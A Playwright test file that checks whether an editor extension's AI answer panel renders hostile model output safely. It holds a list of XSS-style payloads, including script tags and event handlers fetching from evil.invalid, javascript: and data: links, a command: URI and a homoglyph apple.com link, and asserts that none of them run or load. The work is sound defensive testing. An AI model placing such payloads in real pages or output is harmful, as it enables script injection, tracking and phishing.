import assert from "node:assert/strict";
import type { Frame } from "playwright-core";
import { answerOf, ask, openPanel, scriptedModel } from "./support/panel.ts";
import { openWorkbench, type Workbench } from "./support/workbench.ts";

/** What a model may write, by accident or because it was made to. */
const hostile = [
	"<script>window.hacked = 1; fetch('https://evil.invalid/script')</script>",
	"<img src=x onerror=\"window.hacked = 2\"> <img src='https://evil.invalid/pixel.png'>",
	"<iframe src='https://evil.invalid/frame'></iframe>",
	"<svg onload='window.hacked = 3'><style>@import 'https://evil.invalid/css';</style></svg>",
	"![picture](https://evil.invalid/image.png)",
	"[run](javascript:window.hacked=4) [data](data:text/html,<script>window.hacked=5</script>)",
	"[command](command:workbench.action.closeWindow) [safe](https://example.invalid/page)",
	"<a href='javascript:window.hacked=6' onclick='window.hacked=7'>link</a>",
	"```html\n<script>window.hacked = 8</script>\n<img src=x onerror='window.hacked = 9'>\n```",
	"| a | b |\n|---|---|\n| <b onmouseover='window.hacked=10'>x</b> | `<i>` |",
	"<form action='https://evil.invalid/form'><input autofocus onfocus='window.hacked=11'></form>",
	"[apple.com](https://\u0430pple.com/store)",
	"[ref]: https://evil.invalid/ref\n\n<style>body { display: none }</style> The end.",
].join("\n\n");

describe("hostile Markdown", () => {
	let workbench: Workbench;
	let panel: Frame;

	before(async () => {
		const model = await scriptedModel("hostile", hostile);
		workbench = await openWorkbench({ settings: { "hunch.model": model, "hunch.maxTokens": 1000 } });
		panel = await openPanel(workbench);
	});

	after(() => workbench?.close());

	it("is streamed as text: no script runs, no image or frame appears, nothing is asked for", async () => {
		const answer = await answerOf(await ask(panel, "Show me the worst."));
		assert.match(answer, /The end\./);
		// It is there to be read, not gone.
		for (const text of ["<script>", "onerror=", "<iframe", "<svg", "javascript:window.hacked=4"]) {
			assert.ok(answer.includes(text), `${text} can be read`);
		}
		const inside = await panel.evaluate(() => {
			const root = document.querySelector(".answer");
			const names = Array.from(root?.querySelectorAll("*") ?? [], ({ localName }) => localName);
			const attributes = Array.from(root?.querySelectorAll("*") ?? []).flatMap((element) =>
				element.getAttributeNames(),
			);
			return { names, attributes, hacked: "hacked" in window };
		});
		assert.equal(inside.hacked, false);
		const forbidden = ["script", "img", "iframe", "svg", "style", "form", "input", "object", "embed", "link"];
		assert.deepEqual(
			inside.names.filter((name) => forbidden.includes(name)),
			[],
		);
		assert.deepEqual(
			inside.attributes.filter((name) => name.startsWith("on") || name === "src" || name === "href"),
			[],
		);
		assert.deepEqual(workbench.traffic.outsideRequests, []);
		assert.deepEqual(workbench.traffic.policyViolations, []);
		assert.deepEqual(workbench.traffic.pageErrors, []);
		await workbench.screenshot("hostile");
	});

	it("asks before a link is opened, and says where it really leads", async () => {
		const { page, traffic } = workbench;
		await panel.getByRole("button", { name: "Open https://xn--pple-43d.com/store" }).click();
		const dialog = page.locator(".monaco-dialog-box");
		await dialog.waitFor();
		assert.match((await dialog.textContent()) ?? "", /Open this address\?.*https:\/\/xn--pple-43d\.com\/store/);
		await workbench.screenshot("hostile-link");
		await page.keyboard.press("Escape");
		await dialog.waitFor({ state: "detached" });
		assert.equal(page.context().pages().length, 1);
		assert.deepEqual(traffic.outsideRequests, []);
	});
});
